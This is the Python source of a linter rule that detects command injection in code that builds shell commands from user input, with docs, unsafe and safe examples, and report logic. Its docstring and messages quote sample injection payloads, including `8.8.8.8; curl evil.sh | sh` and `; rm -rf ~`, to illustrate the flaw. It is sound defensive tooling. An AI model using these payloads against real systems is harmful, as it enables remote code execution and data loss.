"""## What it does

Detects shell commands built from user input: `os.system`, `os.popen`,
`subprocess.*(..., shell=True)`, `["sh", "-c", cmd]`, paramiko/fabric `exec_command`/`run`,
`shlex.split` or `.split()` of an interpolated string (no shell, but the input adds
arguments and options), and programs whose *name* comes from input (`subprocess.run([prog,
...])`, `os.exec*`). Sinks: `analysis/sinks.py` (family `command`); what each call runs:
`analysis/commands.py`. Commands built from other non-constant values (a helper's
parameter) are a warning.

## Why is this bad?
A shell interprets `;`, `|`, `&&`, `$(...)` and backticks, so a "host name" such as
`8.8.8.8; curl evil.sh | sh` runs the attacker's command with the server's privileges.
Quoting by hand (`f"'{name}'"`) does not help: the input can close the quote.

## Example
```python
@app.get("/ping")
def ping(host: str):
    return subprocess.check_output(f"ping -c 1 {host}", shell=True)
```

## Use instead
```python
@app.get("/ping")
def ping(host: str):
    return subprocess.check_output(["ping", "-c", "1", host])
```

## What it does not flag
Constant commands, argument lists without a shell whose program is fixed, values passed
through `shlex.quote`, input converted with `int()` or checked against an allowlist or a
full-match regex, environment variables (configuration, not user input), and the
parameter of a private helper (`def _execute(self, commands)`): its callers choose the value.

## Fix safety
An f-string or concatenation whose literal parts hold no shell syntax becomes an argument
list without `shell=True` (`os.system` -> `subprocess.call` when `subprocess` is imported).
Unsafe: no globbing, `~` or variables any more, and non-string values need `str()`.

## References
- https://cwe.mitre.org/data/definitions/78.html
- https://docs.python.org/3/library/subprocess.html#security-considerations
"""
from caveat.analysis import commands, sinks, taint
from caveat.engine.findings import Severity
from caveat.rules.base import Rule
from caveat.rules.security._command_fix import argv_fix

ARGUMENT_LIST = "Pass an argument list without a shell (`subprocess.run([\"prog\", arg])`)"


class CommandInjection(Rule):
    code = "CAV136"
    name = "command-injection"
    category = "command-injection"
    cwe = 78
    severity = Severity.ERROR
    fixable = True
    supersedes = ("B601", "B602", "B604", "B605", "B606", "B609")
    replaces = ("B602", "B605", "B606")
    claims = (taint.REQUEST,)

    def check(self, ctx) -> None:
        for found in sinks.sink_calls(ctx, "command"):
            run = commands.executed(ctx, found)
            if run is None or taint.is_constant(ctx, run.value, kind="shell"):
                continue
            call = found.call
            if run.how == "program":  # a launcher running the program named on its own command line: its job
                sources = taint.remote_only(taint.user_input_sources(ctx, run.value, kind="shell"))
                if sources:
                    ctx.report(self, call, f"`{ctx.source(call.func)}` runs a program whose name comes from "
                                           f"{sources[0]}: the caller chooses what executes. Map the input to a fixed "
                                           f"program with an allowlist.",
                               claim=taint.request_claim_of(ctx, run.value, sources))
                continue
            origins = taint.origins(ctx, run.value, kind="shell")
            sources = sorted({o.label for o in origins if o.kind == "user"})
            if run.how == "split":
                if sources:
                    ctx.report(self, call, f"`{ctx.source(call.func)}` splits a command string built from "
                                           f"{sources[0]} into its arguments: no shell, but the input can add its own "
                                           f"options and arguments (`-oProxyCommand=...`, `--output=/etc/...`). Build "
                                           f"the list yourself, with the value as one element after `--`.",
                               claim=taint.request_claim_of(ctx, run.value, sources))
                continue
            label, where = self._label(ctx, found, run)
            fix = None if run.how == "remote" else argv_fix(ctx, call, found.name, run.value)
            others = sorted({o.label for o in taint.maybe_external(origins)})
            if sources:  # sys.argv / input(): the user already has a shell
                ctx.report(self, call, f"{label} runs a command {where} built from {sources[0]}: input such as "
                                       f"`; rm -rf ~` or `$(curl ...)` runs as its own command. {ARGUMENT_LIST}, or "
                                       f"quote each value with `shlex.quote`.", fix=fix,
                           severity=None if taint.remote_only(sources) else Severity.WARNING,
                           claim=taint.request_claim_of(ctx, run.value, sources))
            elif others:
                ctx.report(self, call, f"{label} runs a command {where} built from {others[0]}; if that value can "
                                       f"come from a user it is command injection. {ARGUMENT_LIST}, or quote the "
                                       f"value with `shlex.quote`.", fix=fix, severity=Severity.WARNING)

    @staticmethod
    def _label(ctx, found, run) -> tuple[str, str]:
        where = "on the remote host" if run.how == "remote" else "in a shell"
        if found.sink.role == "subprocess" and run.label == found.name:
            return f"`{ctx.source(found.call.func)}(..., shell=True)`", where
        if run.label.startswith(("subprocess", "os.", "asyncio", "commands")):
            return f"`{run.label.split('(')[0]}`", where
        return f"`{ctx.source(found.call.func)}`", where
